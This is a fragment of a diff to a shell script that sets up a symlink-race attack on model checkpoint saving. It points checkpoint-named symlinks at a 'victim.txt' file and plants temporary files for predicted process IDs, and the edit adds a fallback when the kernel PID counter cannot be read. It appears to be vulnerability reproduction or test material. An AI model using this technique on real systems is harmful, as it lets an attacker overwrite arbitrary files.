@@ -32,7 +32,7 @@ mkdir -p sym/checkpoints
 ln -s ../../victim.txt sym/checkpoints/ckpt-4.h5
 ln -s ../victim.txt sym/model.h5
 # Temporaries are named .ckpt-<step>.h5.tmp-<pid>: plant them for the next few thousand pids.
-last=$(cat /proc/sys/kernel/ns_last_pid)
+last=$(cat /proc/sys/kernel/ns_last_pid 2>/dev/null || echo 0)
 span=5000
 "$PYTHON" -c "
 import os
